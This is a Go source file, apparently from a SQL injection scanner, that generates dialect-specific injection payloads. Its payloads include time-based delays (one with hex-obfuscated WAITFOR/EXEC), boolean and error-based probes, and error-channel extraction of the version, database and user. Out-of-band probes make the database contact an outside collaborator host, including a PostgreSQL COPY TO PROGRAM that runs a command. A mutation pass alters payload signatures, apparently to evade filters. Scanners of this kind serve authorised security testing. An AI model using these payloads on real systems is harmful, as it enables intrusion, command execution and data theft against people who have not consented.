// Package payload generates dialect- and context-correct SQL injection
// probes. Generation never fails: asking for an unsupported combination
// of technique and dialect yields an empty list, not an error.
package payload

import (
	"fmt"
	"math/rand"
	"strings"

	"github.com/0xf61/sqlhound/api/schemas"
)

// Options tunes a generation call.
type Options struct {
	// SleepSeconds is the delay requested of time-based payloads.
	SleepSeconds int
	// Collaborator is the OOB server base domain; required for OOB payloads.
	Collaborator string
	// Token is the unique per-probe subdomain label for OOB correlation.
	Token string
	// Mutate enables a randomized structural pass (identifier case swaps,
	// operator substitution) before contextualization.
	Mutate bool
}

// Generate emits payloads for one (technique, dialect, context) triple.
func Generate(technique schemas.Technique, dialect schemas.Dialect, ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	if opts.SleepSeconds <= 0 {
		opts.SleepSeconds = 5
	}
	switch technique {
	case schemas.TechniqueTimeBased:
		return timeBased(dialect, ctx, opts)
	case schemas.TechniqueBooleanBased:
		return booleanBased(dialect, ctx, opts)
	case schemas.TechniqueErrorBased:
		return errorBased(dialect, ctx, opts)
	case schemas.TechniqueOOB:
		return outOfBand(dialect, ctx, opts)
	default:
		return nil
	}
}

// Contextualize wraps a raw SQL fragment for the reflection context it
// will land in: a quote prefix that breaks out of the surrounding string
// literal and a dialect-appropriate end-of-statement comment. Wrapping an
// already wrapped payload is a no-op.
func Contextualize(fragment string, ctx schemas.ReflectionContext, dialect schemas.Dialect) string {
	suffix := commentFor(dialect)
	prefix := ""
	switch {
	case ctx.SingleQuoted():
		prefix = "'"
	case ctx.DoubleQuoted():
		prefix = `"`
	}

	if strings.HasPrefix(fragment, prefix+" ") && strings.HasSuffix(fragment, suffix) && prefix != "" {
		return fragment
	}
	if prefix == "" && strings.HasSuffix(fragment, suffix) {
		return fragment
	}

	body := fragment
	if !strings.HasPrefix(body, " ") {
		body = " " + body
	}
	return prefix + body + suffix
}

func commentFor(dialect schemas.Dialect) string {
	// "-- " terminates the trailing remainder of the original statement in
	// every supported engine; MySQL would also accept '#'.
	_ = dialect
	return "-- "
}

// -- Time-based --

// sleepExpressions returns raw delay expressions per dialect. Engines
// without a sleep primitive get a CPU-expensive subquery whose runtime
// scales with the requested delay.
func sleepExpressions(dialect schemas.Dialect, seconds int) []struct{ expr, family string } {
	switch dialect {
	case schemas.DialectMySQL:
		return []struct{ expr, family string }{
			{fmt.Sprintf("SLEEP(%d)", seconds), "MYSQL_SLEEP"},
			{fmt.Sprintf("(SELECT * FROM (SELECT(SLEEP(%d)))a)", seconds), "MYSQL_SLEEP_SUBSELECT"},
			{fmt.Sprintf("BENCHMARK(%d000000,MD5(1))", seconds), "MYSQL_BENCHMARK"},
		}
	case schemas.DialectPostgreSQL:
		return []struct{ expr, family string }{
			{fmt.Sprintf("(SELECT pg_sleep(%d)) IS NOT NULL", seconds), "PGSQL_SLEEP"},
		}
	case schemas.DialectMSSQL:
		// WAITFOR is a statement, not an expression; handled separately.
		return nil
	case schemas.DialectOracle:
		return []struct{ expr, family string }{
			{fmt.Sprintf("DBMS_PIPE.RECEIVE_MESSAGE('a',%d)=1", seconds), "ORACLE_PIPE_DELAY"},
		}
	case schemas.DialectSQLite:
		blob := seconds * 500000
		return []struct{ expr, family string }{
			{fmt.Sprintf("(SELECT 1 WHERE LENGTH(HEX(RANDOMBLOB(%d)))>0) IS NOT NULL", blob), "SQLITE_HEAVY_QUERY"},
		}
	default:
		return nil
	}
}

func timeBased(dialect schemas.Dialect, ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	if dialect == schemas.DialectMSSQL {
		return mssqlTimeBased(ctx, opts)
	}

	var out []schemas.Payload
	for _, s := range sleepExpressions(dialect, opts.SleepSeconds) {
		for _, op := range []string{"AND", "OR"} {
			fragment := fmt.Sprintf("%s %s", op, s.expr)
			if opts.Mutate {
				fragment = mutateFragment(fragment)
			}
			out = append(out, schemas.Payload{
				Technique: schemas.TechniqueTimeBased,
				Dialect:   dialect,
				Context:   ctx,
				Body:      Contextualize(fragment, ctx, dialect),
				Family:    s.family,
			})
		}
	}
	return out
}

// mssqlTimeBased emits WAITFOR DELAY as a stacked statement plus an
// obfuscated DECLARE/EXEC variant that keeps the WAITFOR keyword out of
// the visible query text.
func mssqlTimeBased(ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	delay := fmt.Sprintf("0:0:%d", opts.SleepSeconds)

	plain := fmt.Sprintf(";WAITFOR DELAY '%s'", delay)

	var hexDelay strings.Builder
	hexDelay.WriteString("0x57414954464F522044454C41592027") // WAITFOR DELAY '
	for i := 0; i < len(delay); i++ {
		fmt.Fprintf(&hexDelay, "%02x", delay[i])
	}
	hexDelay.WriteString("27") // closing quote
	obfuscated := fmt.Sprintf(";DECLARE @S VARCHAR(4000);SET @S=CAST(%s AS VARCHAR(4000));EXEC(@S);", hexDelay.String())

	return []schemas.Payload{
		{
			Technique: schemas.TechniqueTimeBased,
			Dialect:   schemas.DialectMSSQL,
			Context:   ctx,
			Body:      Contextualize(plain, ctx, schemas.DialectMSSQL),
			Family:    "MSSQL_WAITFOR",
		},
		{
			Technique: schemas.TechniqueTimeBased,
			Dialect:   schemas.DialectMSSQL,
			Context:   ctx,
			Body:      Contextualize(obfuscated, ctx, schemas.DialectMSSQL),
			Family:    "MSSQL_WAITFOR_OBFUSCATED",
		},
	}
}

// -- Boolean-based --

// booleanCondition is a TRUE/FALSE pair where the true side is a
// tautology and the false side a contradiction.
type booleanCondition struct {
	truth, lie, family string
}

var booleanConditions = []booleanCondition{
	{"1=1", "1=2", "LOGICAL"},
	{"'a' LIKE 'a'", "'a' LIKE 'b'", "COMPARISON_LIKE"},
}

func booleanBased(dialect schemas.Dialect, ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	var out []schemas.Payload
	for _, cond := range booleanConditions {
		for _, op := range []string{"AND", "OR"} {
			truth := fmt.Sprintf("%s %s", op, cond.truth)
			lie := fmt.Sprintf("%s %s", op, cond.lie)
			if opts.Mutate {
				truth = mutateFragment(truth)
				lie = mutateFragment(lie)
			}
			out = append(out, schemas.Payload{
				Technique: schemas.TechniqueBooleanBased,
				Dialect:   dialect,
				Context:   ctx,
				TrueBody:  Contextualize(truth, ctx, dialect),
				FalseBody: Contextualize(lie, ctx, dialect),
				Family:    fmt.Sprintf("%s_%s", cond.family, op),
			})
		}
	}
	return out
}

// -- Error-based --

var errorProbes = []struct{ body, family string }{
	{"'", "QUOTE_SINGLE"},
	{"''", "QUOTE_SINGLE_ESCAPED"},
	{`"`, "QUOTE_DOUBLE"},
	{`\`, "BACKSLASH"},
	{"`", "QUOTE_BACKTICK"},
	{"';--", "COMMENT_TERMINATED"},
	{" OR 1=1--", "TAUTOLOGY_OR_COMMENT"},
	{" AND 1=1", "TAUTOLOGY_AND"},
	{" HAVING 1=1", "HAVING_CLAUSE"},
	{" ORDER BY 1", "ORDER_BY"},
}

// mssqlCoercionProbes break the query by coercing non-numeric scalars to
// int, producing verbose conversion errors that also leak data.
var mssqlCoercionProbes = []struct{ body, family string }{
	{" AND 1=CONVERT(int,(SELECT @@version))", "MSSQL_CONVERT"},
	{" AND 1=CAST(DB_NAME() AS int)", "MSSQL_CAST"},
	{" AND 1=(SELECT 1 FROM sysobjects)", "MSSQL_SYSOBJECTS"},
}

func errorBased(dialect schemas.Dialect, ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	out := make([]schemas.Payload, 0, len(errorProbes)+len(mssqlCoercionProbes))
	for _, p := range errorProbes {
		out = append(out, schemas.Payload{
			Technique: schemas.TechniqueErrorBased,
			Dialect:   dialect,
			Context:   ctx,
			Body:      p.body, // raw breakout characters stay unwrapped
			Family:    p.family,
		})
	}
	if dialect == schemas.DialectMSSQL {
		for _, p := range mssqlCoercionProbes {
			body := p.body
			if opts.Mutate {
				body = mutateFragment(body)
			}
			out = append(out, schemas.Payload{
				Technique: schemas.TechniqueErrorBased,
				Dialect:   dialect,
				Context:   ctx,
				Body:      Contextualize(body, ctx, dialect),
				Family:    p.family,
			})
		}
	}
	return out
}

// -- Out-of-band --

func outOfBand(dialect schemas.Dialect, ctx schemas.ReflectionContext, opts Options) []schemas.Payload {
	if opts.Collaborator == "" {
		return nil
	}
	host := opts.Collaborator
	if opts.Token != "" {
		host = opts.Token + "." + host
	}

	type oob struct{ body, family string }
	var probes []oob
	switch dialect {
	case schemas.DialectMySQL:
		probes = []oob{{fmt.Sprintf(` AND (SELECT LOAD_FILE(CONCAT('\\\\', '%s', '\\a')))`, host), "MYSQL_LOAD_FILE_UNC"}}
	case schemas.DialectOracle:
		probes = []oob{{fmt.Sprintf(" AND UTL_INADDR.GET_HOST_ADDRESS('%s') IS NOT NULL", host), "ORACLE_UTL_INADDR"}}
	case schemas.DialectMSSQL:
		probes = []oob{
			{fmt.Sprintf(";EXEC master..xp_dirtree '\\\\%s\\a';", host), "MSSQL_XP_DIRTREE"},
			{fmt.Sprintf(" AND 1=(SELECT 1 FROM OPENROWSET('SQLNCLI','Server=%s;','SELECT 1'))", host), "MSSQL_OPENROWSET"},
		}
	case schemas.DialectPostgreSQL:
		probes = []oob{{fmt.Sprintf(";COPY (SELECT '') TO PROGRAM 'nslookup %s';", host), "PGSQL_COPY_PROGRAM"}}
	default:
		return nil
	}

	out := make([]schemas.Payload, 0, len(probes))
	for _, p := range probes {
		out = append(out, schemas.Payload{
			Technique: schemas.TechniqueOOB,
			Dialect:   dialect,
			Context:   ctx,
			Body:      Contextualize(p.body, ctx, dialect),
			Family:    p.family,
		})
	}
	return out
}

// -- Extraction (proof-of-concept scalars) --

// ExtractionProbes returns error-based extraction payloads that leak one
// scalar each through the database's error channel. Only MySQL is
// supported; other dialects return nil.
func ExtractionProbes(dialect schemas.Dialect, ctx schemas.ReflectionContext) []schemas.Payload {
	if dialect != schemas.DialectMySQL {
		return nil
	}
	queries := []struct{ q, family string }{
		{"VERSION()", "EXTRACT_VERSION"},
		{"DATABASE()", "EXTRACT_DATABASE"},
		{"USER()", "EXTRACT_USER"},
	}
	out := make([]schemas.Payload, 0, len(queries))
	for _, q := range queries {
		body := fmt.Sprintf(" AND EXTRACTVALUE(RAND(),CONCAT(0x7e,(%s)))", q.q)
		out = append(out, schemas.Payload{
			Technique: schemas.TechniqueErrorBased,
			Dialect:   dialect,
			Context:   ctx,
			Body:      Contextualize(body, ctx, dialect),
			Family:    q.family,
		})
	}
	return out
}

// -- Structural mutation --

// mutateFragment applies cheap structural variation: random case swaps on
// keywords and equality-to-LIKE substitution, keeping semantics intact
// while changing the byte signature.
func mutateFragment(fragment string) string {
	if rand.Intn(2) == 0 {
		fragment = strings.ReplaceAll(fragment, "=", " LIKE ")
	}
	words := strings.Split(fragment, " ")
	for i, w := range words {
		if len(w) > 1 && rand.Intn(3) == 0 && isKeyword(w) {
			words[i] = swapCase(w)
		}
	}
	return strings.Join(words, " ")
}

func isKeyword(w string) bool {
	switch strings.ToUpper(w) {
	case "AND", "OR", "SELECT", "UNION", "FROM", "LIKE", "NULL", "WHERE":
		return true
	}
	return false
}

func swapCase(w string) string {
	var b strings.Builder
	for i, c := range w {
		if i%2 == 0 {
			b.WriteString(strings.ToLower(string(c)))
		} else {
			b.WriteString(strings.ToUpper(string(c)))
		}
	}
	return b.String()
}
